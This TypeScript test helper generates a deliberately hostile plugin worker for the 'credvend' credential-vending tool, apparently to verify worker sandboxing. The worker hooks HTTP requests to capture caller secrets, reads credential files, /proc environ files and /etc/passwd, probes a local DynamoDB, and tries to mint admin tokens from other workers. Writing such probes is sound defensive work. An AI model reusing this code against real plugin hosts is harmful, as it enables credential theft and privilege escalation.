// The worker.ts of a hostile plugin (put over a `credvend plugin init` skeleton): on a Vend of
// `<provider>:read:probe.<port>.<port>….db<port>` it tries what a malicious publisher would under
// `credvend dev` — find a caller secret (its worker-thread data, the data dir's files, its
// environment, the secret the core sends itself), call the workers on those ports with each (and
// mint `local:admin:*` from local-tokens), read the data dir and the parent's environment, list
// the ledger through the embedded DynamoDB's port, spawn a process, start a thread, load an addon
// — and reports what it observed as its token (`<provider>_<base64url JSON>`), the one channel it
// honestly has. Any other scope is an honest Vend. It runs as it would on today's and on older
// hosts, so the same test shows the old flaw.

/** Paths relative to the worker's folder: the SDK and functions of this repository. */
export interface HostileWorkerImports {
  readonly sdk: string;
  readonly functions: string;
}

export interface HostileObservations {
  readonly env: string[];
  readonly workerDataSecret: boolean;
  /** File (relative to the data dir, or absolute) → "read" or the error code. */
  readonly reads: Record<string, string>;
  readonly spawn: string;
  readonly thread: string;
  readonly addon: string;
  /** How many caller secrets it found, its own (what the core sent it) apart. */
  readonly foundSecrets: number;
  readonly ownSecret: boolean;
  /** ListTables on the embedded DynamoDB's port, signed with a guessed key: its status and whether the ledger was listed. */
  readonly dynamo: { status: number | string; listedLedger: boolean };
  /** Each attempt on another worker: which secret, the HTTP status of Describe, and the mint's outcome. */
  readonly calls: { port: string; secret: string; describe: number | string; mint: string }[];
}

export function hostileWorkerSource(provider: string, imports: HostileWorkerImports): string {
  return `
import http from "node:http";
import { readdirSync, readFileSync } from "node:fs";
import { dirname, isAbsolute, join, resolve } from "node:path";
import { fileURLToPath } from "node:url";
import { randomBytes, randomUUID } from "node:crypto";
import { PluginError } from "${imports.sdk}/plugin-error.js";
import { GrpcWebPluginClient } from "${imports.functions}/adapters/plugins/grpc-web-plugin-client.js";

export const WORKER_NAME = "${provider}-probe";
export const WORKER_VERSION = "0.1.0";
const PROVIDER = "${provider}";
const HEADER = "x-credvend-caller-secret";

// What the core presents to this worker: captured from every request the process receives.
const presented = new Set();
const emit = http.Server.prototype.emit;
http.Server.prototype.emit = function (event, ...args) {
  if (event === "request") {
    const value = args[0]?.headers?.[HEADER];
    if (typeof value === "string") presented.add(value);
  }
  return emit.call(this, event, ...args);
};

const here = dirname(fileURLToPath(import.meta.url));
const dataDir = resolve(here, "../..");
const code = (error) => error?.code ?? error?.name ?? String(error);

async function probeDynamo(port) {
  try {
    const response = await fetch("http://127.0.0.1:" + port + "/", {
      method: "POST",
      headers: {
        "content-type": "application/x-amz-json-1.0",
        "x-amz-target": "DynamoDB_20120810.ListTables",
        authorization: "AWS4-HMAC-SHA256 Credential=local/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=00",
      },
      body: "{}",
    });
    return { status: response.status, listedLedger: (await response.text()).includes("credvend-ledger") };
  } catch (error) {
    return { status: code(error), listedLedger: false };
  }
}

async function observe(ports, dynamoPort, subject) {
  const found = new Set();
  let workerDataSecret = false;
  try {
    const threads = await import("node:worker_threads");
    const secret = threads.workerData?.callerSecret;
    if (typeof secret === "string") {
      workerDataSecret = true;
      found.add(secret);
    }
  } catch {}
  // A caller secret is 32 random bytes in base64url.
  for (const value of Object.values(process.env)) if (value && /^[A-Za-z0-9_-]{43}$/.test(value)) found.add(value);
  const reads = {};
  const files = [
    "worker-caller-secrets.json", "worker-caller-secret", "workers.json", "dev-server.json",
    "dev-oidc", "dev-publisher/publisher.key", "dynamodb",
    "/proc/self/environ", "/proc/" + process.ppid + "/environ", "/etc/passwd",
  ];
  for (const file of files) {
    const path = isAbsolute(file) ? file : join(dataDir, file);
    try {
      let text;
      try {
        text = readFileSync(path, "utf8");
      } catch (error) {
        if (error?.code !== "EISDIR") throw error;
        for (const name of readdirSync(path)) try { readFileSync(join(path, name)); } catch {}
        text = "";
      }
      reads[file] = "read";
      if (file.startsWith("worker-caller-secret")) {
        try { for (const value of Object.values(JSON.parse(text))) found.add(value); } catch { found.add(text.trim()); }
      }
    } catch (error) {
      reads[file] = code(error);
    }
  }
  let spawn = "spawned";
  try {
    const child = await import("node:child_process");
    const result = child.spawnSync(process.execPath, ["-e", "0"]);
    if (result.error) throw result.error;
  } catch (error) { spawn = code(error); }
  let thread = "started";
  try {
    const { Worker } = await import("node:worker_threads");
    const worker = new Worker("0", { eval: true });
    await worker.terminate();
  } catch (error) { thread = code(error); }
  let addon = "loaded";
  try { process.dlopen({ exports: {} }, join(here, "addon.node")); } catch (error) { addon = code(error); }

  const own = [...presented];
  const candidates = [
    ...[...found].filter((s) => !presented.has(s)).map((s, i) => ["found-" + i, s]),
    ...own.map((s) => ["own", s]),
    ["none", undefined],
  ];
  const calls = [];
  for (const port of ports) {
    for (const [label, secret] of candidates) {
      const base = "http://127.0.0.1:" + port;
      let describe;
      try {
        const response = await fetch(base + "/credvend.plugin.v1.PluginService/Describe", {
          method: "POST",
          headers: { "content-type": "application/grpc-web+proto", ...(secret ? { [HEADER]: secret } : {}) },
          body: new Uint8Array(5),
        });
        describe = response.status;
      } catch (error) { describe = code(error); }
      let mint = "refused";
      try {
        const client = new GrpcWebPluginClient({
          name: "target", baseUrl: base, maxRetries: 0, timeoutMs: 3000,
          ...(secret ? { sign: ({ headers }) => headers.set(HEADER, secret) } : {}),
        });
        const request = { scopes: [{ provider: "local", action: "admin", resource: "*" }], subject, ttlSeconds: 43200 };
        const prepared = await client.prepare(request);
        const vended = await client.vend({ ...request, credentialId: randomUUID(), serialized: prepared.serialized?.serialized ?? new Uint8Array() });
        mint = "minted:" + Object.values(vended.credential)[0].slice(0, 4);
      } catch (error) { mint = "refused:" + (error?.message ?? "").slice(0, 120); }
      calls.push({ port, secret: label, describe, mint });
    }
  }
  return {
    env: Object.keys(process.env).sort(), workerDataSecret, reads, spawn, thread, addon, dynamo: await probeDynamo(dynamoPort),
    foundSecrets: [...found].filter((s) => !presented.has(s)).length, ownSecret: own.length > 0, calls,
  };
}

/** probe.<worker port>….db<dynamo port> */
function probeTargets(resource) {
  const parts = resource.split(".").slice(1);
  return [parts.filter((p) => !p.startsWith("db")), parts.find((p) => p.startsWith("db"))?.slice(2)];
}

export function createWorker() {
  return {
    name: WORKER_NAME,
    version: WORKER_VERSION,
    providers: [PROVIDER],
    validate: (scopes) => scopes.map((scope) => ({ scope, valid: scope.provider === PROVIDER, ...(scope.provider === PROVIDER ? { normalized: scope } : { error: "not mine" }) })),
    analyze: (request) => request.scopes.map((scope) => ({ scope, risk: "low", warnings: [] })),
    serialize: (request) => ({
      serialized: new TextEncoder().encode(JSON.stringify(request.scopes.map((s) => s.action + ":" + s.resource).sort())),
      mediaType: "application/json",
    }),
    vend: async (request) => {
      if (request.ttlSeconds <= 0) throw new PluginError("invalid_argument", "ttlSeconds must be positive");
      const probe = request.scopes.find((s) => s.resource.startsWith("probe."));
      const token = probe
        ? Buffer.from(JSON.stringify(await observe(...probeTargets(probe.resource), request.subject))).toString("base64url")
        : randomBytes(24).toString("base64url");
      return {
        credential: { token: PROVIDER + "_" + token },
        expiresAt: new Date(Date.now() + request.ttlSeconds * 1000),
        revocable: false,
        upstreamRef: request.credentialId,
        notes: [],
      };
    },
  };
}
`;
}
